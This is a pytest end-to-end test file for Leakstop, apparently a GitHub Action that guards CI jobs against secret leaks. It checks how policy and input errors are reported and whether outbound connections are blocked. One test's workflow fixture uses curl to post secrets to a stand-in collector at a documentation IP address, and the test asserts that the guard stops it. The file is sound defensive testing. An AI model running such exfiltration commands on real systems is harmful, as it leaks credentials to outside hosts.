# SPDX-License-Identifier: MIT
"""What is wrong with the step is said before the job's first step, with the place and the cure."""

from __future__ import annotations

import pytest

from e2e.acting import ACTION, Bench, Outcome
from lab import Lab, tokens
from lab.tokens import Token

pytestmark = [pytest.mark.root, pytest.mark.act]


def guarded(inputs: str, uses: str = ACTION) -> str:
    """A job with these inputs of the guard, and a step after it."""
    lines = "\n".join(f"    {line}" for line in inputs.splitlines())
    return f"- uses: {uses}\n  with:\n{lines}\n- id: after\n  run: echo went on\n"


def assert_refused(outcome: Outcome, title: str) -> str:
    """The job is red, its first step never ran; return the one annotation's message."""
    assert outcome.red
    assert outcome.result("after") == ""
    (error,) = outcome.annotations("error")
    assert error.title == f"Leakstop: {title}"
    return error.message


def test_a_broken_policy_file(acting: Bench) -> None:
    acting.write(".github/leakstop.yml", "version: 1\nallow:\n  - api.home.test: 8443\n")
    outcome = acting.run(guarded("policy: .github/leakstop.yml"))
    message = assert_refused(outcome, "the policy cannot be used")
    assert "because of the space after the colon" in message
    (error,) = outcome.annotations("error")
    assert (error.file, error.line) == (".github/leakstop.yml", "3")
    assert "   |   - api.home.test: 8443\n   |     ^\n" in outcome.said("Main")


def test_a_broken_policy_in_the_step(acting: Bench) -> None:
    outcome = acting.run(guarded("policy: |\n  version: 1\n  mode: enforce"))
    message = assert_refused(outcome, "the policy cannot be used")
    assert message.startswith("input `policy`:2:7: `mode: enforce` is not known")


def test_a_policy_that_is_not_there(acting: Bench) -> None:
    outcome = acting.run(guarded("policy: .github/leakstop.yaml"))
    assert "could not be read" in assert_refused(outcome, "the policy cannot be used")


def test_a_policy_of_the_workspace_is_not_read(acting: Bench) -> None:
    outcome = acting.run(guarded("policy: ${{ github.workspace }}/leakstop.yml"))
    assert "the job can write" in assert_refused(outcome, "the policy cannot be used")


def test_an_unknown_input(acting: Bench) -> None:
    """The runner itself keeps it from a composite, so the inner action is asked."""
    name, _, ref = ACTION.partition("@")
    uses = f"{name}/agent/hook@{ref}\n  id: hook"
    outcome = acting.run(guarded("modee: block", uses))
    message = assert_refused(outcome, "the step's inputs are wrong")
    assert "no input `modee`\ndid you mean `mode`?" in message


def test_an_unknown_value(acting: Bench) -> None:
    message = assert_refused(acting.run(guarded("mode: blok")), "the step's inputs are wrong")
    assert "`mode: blok` is not known\ndid you mean `block`?" in message


def test_a_secret_that_goes_over_lines(acting: Bench) -> None:
    key = Token("KEY", "first line\nsecond line")
    outcome = acting.run(guarded("secrets: KEY=${{ secrets.KEY }}"), secrets=[key])
    message = assert_refused(outcome, "the step's inputs are wrong")
    assert "NAME=${{ toJSON(secrets.NAME) }}" in message
    assert "second" not in outcome.text


def test_the_forms_of_the_secrets_input(acting: Bench, lab: Lab) -> None:
    """NAME=value, NAME@home=value, a JSON string; an empty value is ignored."""
    plain, placed = tokens.home_made("PLAIN"), tokens.home_made("PLACED")
    key = Token("KEY", f"-----BEGIN\n{tokens.home_made().value}\nEND-----")
    outcome = acting.run(
        f"""
        - uses: {ACTION}
          with:
            secrets: |
              PLAIN=${{{{ secrets.PLAIN }}}}
              PLACED@home.test=${{{{ secrets.PLACED }}}}
              KEY=${{{{ toJSON(secrets.KEY) }}}}
              OF_A_FORK=${{{{ secrets.NOT_SET }}}}
        - id: collect
          run: |
            curl -s -m 10 -d "${{{{ secrets.PLACED }}}}" https://home.test/
            curl -s -m 10 -d '${{{{ secrets.KEY }}}}' http://198.51.100.66/
        """,
        secrets=[plain, placed, key],
    )
    assert "Secrets watched: 3 known: PLAIN, PLACED, KEY." in outcome.said("Main")
    lab.settle()
    assert lab.home.bytes_of(placed.value.encode()) == len(placed.value)
    assert lab.collector.connections == []
    (finding,) = outcome.record("finding")
    assert finding["secret"] == "KEY"
    assert outcome.red
    for token in (plain, placed, key):
        assert outcome.shows(token) == []


def test_inputs_that_only_exist_when_main_runs(acting: Bench, lab: Lab) -> None:
    """``pre`` arms "observe and hold"; ``main`` brings the policy into the same guard."""
    outcome = acting.run(
        f"""
        - id: prepare
          run: echo mode=block >> "$GITHUB_OUTPUT"
        - uses: {ACTION}
          with:
            mode: ${{{{ steps.prepare.outputs.mode }}}}
        - id: collect
          run: curl -sS -m 10 https://other.test/
        """
    )
    assert "Protected (block mode)" in outcome.said("Main")
    assert outcome.red
    assert lab.other.connections == []
    assert [error.title for error in outcome.annotations("error")] == [
        "Leakstop: a host was denied"
    ]
